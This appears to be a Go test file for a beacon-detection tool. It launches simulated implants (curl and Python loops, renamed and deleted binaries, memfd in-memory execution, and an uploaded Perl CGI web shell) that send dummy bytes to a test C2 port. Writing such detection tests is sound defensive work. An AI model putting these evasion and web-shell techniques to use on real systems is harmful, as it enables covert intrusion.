package server

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/beaconwatch/beaconwatch/internal/shell"
	"github.com/beaconwatch/beaconwatch/internal/simulate"
	"github.com/beaconwatch/beaconwatch/test/scene"
)

// implant is a beacon that no rule covers.
type implant struct {
	what, path string
	port       int
	// because is the suspicion that says what is wrong with it.
	because string
}

// startImplants starts one of each kind. They beat every second.
func startImplants(t *testing.T, s shell.Querier) []implant {
	t.Helper()
	curl, python, bash := installed(t, "/usr/bin/curl", "curl"), installed(t, "/usr/bin/python3", "python3"), installed(t, "/bin/bash", "bash")
	python, err := filepath.EvalSymlinks(python)
	require.NoError(t, err)
	bash, err = filepath.EvalSymlinks(bash)
	require.NoError(t, err)

	copied := filepath.Join(t.TempDir(), "chronyd")
	copyTo(t, "/usr/sbin/chronyd", copied)
	clock, err := chronyd("/run/implant.conf", "server "+publicAddress+" minpoll 0 maxpoll 0\nbindcmdaddress /\ncmdport 0\npidfile /run/implant.pid\n")
	require.NoError(t, err)
	clock.Path = copied
	launch(t, "", clock)

	launch(t, "", exec.Command(bash, "-c", fmt.Sprintf("for beat in $(seq %d); do curl -s -o /dev/null http://%s/; sleep 1; done", beats, publicAddress)))

	launch(t, "nobody", exec.Command(python, "-c", fmt.Sprintf(`import socket, time
for beat in range(%d):
    with socket.create_connection((%q, %d)) as c: c.sendall(b"x" * 120)
    time.sleep(1)`, beats, publicAddress, c2Port)))

	renamed, removed, alike := "/usr/local/sbin/atop-helper", "/usr/local/sbin/log-rotator", "/opt/kubernetes/kubelet"
	for _, path := range []string{renamed, removed, alike} {
		copyTo(t, sensorPath, path)
		beat(t, exec.Command(path, simulateSender))
	}
	require.EventuallyWithT(t, func(c *assert.CollectT) {
		require.NotEmpty(c, scene.Ask(c, s, "SELECT 1 FROM process_outbound_stats WHERE path = '"+removed+"'"))
	}, patience, 100*time.Millisecond)
	require.NoError(t, os.Remove(removed))

	memfd := exec.Command(selfPath, simulateSender)
	memfd.Env = append(os.Environ(), roleVariable+"=memfd")
	beat(t, memfd)

	script := webShell(t)
	return []implant{
		{"copied chronyd", copied, ntpPort, "world_writable_path"},
		{"curl from a timer", curl, httpPort, "general_purpose_tool"},
		{"python one-liner", python, c2Port, "inline_code"},
		{"renamed static binary", renamed, c2Port, "no_package"},
		{"memfd", "/memfd:x (deleted)", c2Port, "memfd_executable"},
		{"deleted executable", removed, c2Port, "deleted_executable"},
		{"child of a web server", script, c2Port, "parent_web_server"},
		{"kubelet name-alike", alike, c2Port, "name_alike"},
	}
}

// simulateSender is the hidden command of the binary that sends what its standard input says.
const simulateSender = "simulate-sender"

// beat has a sender beat to the public address.
func beat(t *testing.T, cmd *exec.Cmd) {
	t.Helper()
	part, err := json.Marshal(simulate.SenderConfig{Shape: simulate.Beat, Network: "tcp", Address: at(publicAddress, c2Port),
		Interval: time.Second, Size: 151, Count: beats, Reconnect: true, For: lifetime})
	require.NoError(t, err)
	cmd.Stdin = strings.NewReader(string(part))
	launch(t, "", cmd)
}

// playMemfd executes the sender from memory. It returns only if that fails.
func playMemfd() error {
	content, err := os.ReadFile(sensorPath)
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate("x", unix.MFD_CLOEXEC)
	if err != nil {
		return err
	}
	if _, err := os.NewFile(uintptr(fd), "x").Write(content); err != nil {
		return err
	}
	return unix.Exec("/proc/self/fd/"+strconv.Itoa(fd), os.Args, os.Environ())
}

// webShell has a web server execute a script that an intruder has uploaded, and returns the executable that runs it.
func webShell(t *testing.T) string {
	t.Helper()
	httpd := installed(t, "/usr/sbin/lighttpd", "lighttpd")
	root := "/var/www/uploads"
	require.NoError(t, os.MkdirAll(root, 0o755))
	shell := fmt.Sprintf("#!/bin/dash\nprintf 'Content-Type: text/plain\\n\\n'\nexec /usr/bin/perl -MIO::Socket::INET -e '"+
		`for (1..%d) { my $c = IO::Socket::INET->new("%s:%d"); print $c "x" x 90; close $c; sleep 1 }`+"'\n", beats, publicAddress, c2Port)
	require.NoError(t, os.WriteFile(filepath.Join(root, "status.cgi"), []byte(shell), 0o755))
	uid := credential(t, "www-data")
	require.NoError(t, os.Chown(filepath.Join(root, "status.cgi"), int(uid.Uid), int(uid.Gid)))
	file := written(t, fmt.Sprintf("server.document-root = %q\nserver.bind = %q\nserver.port = 8080\nserver.username = \"www-data\"\n"+
		"server.groupname = \"www-data\"\nserver.modules = (\"mod_cgi\")\ncgi.assign = (\".cgi\" => \"\")\n", root, serverAddress))
	launch(t, "", exec.Command(httpd, "-D", "-f", file))
	require.Eventually(t, func() bool {
		c, err := net.Dial("tcp", at(serverAddress, 8080))
		if err != nil {
			return false
		}
		t.Cleanup(func() { c.Close() }) // the answer would come when the beacon ends
		_, err = fmt.Fprintf(c, "GET /status.cgi HTTP/1.0\r\n\r\n")
		return err == nil
	}, patience, 50*time.Millisecond)
	return "/usr/bin/perl"
}

func copyTo(t *testing.T, from, to string) {
	t.Helper()
	content, err := os.ReadFile(from)
	require.NoError(t, err)
	require.NoError(t, put(to, content))
}
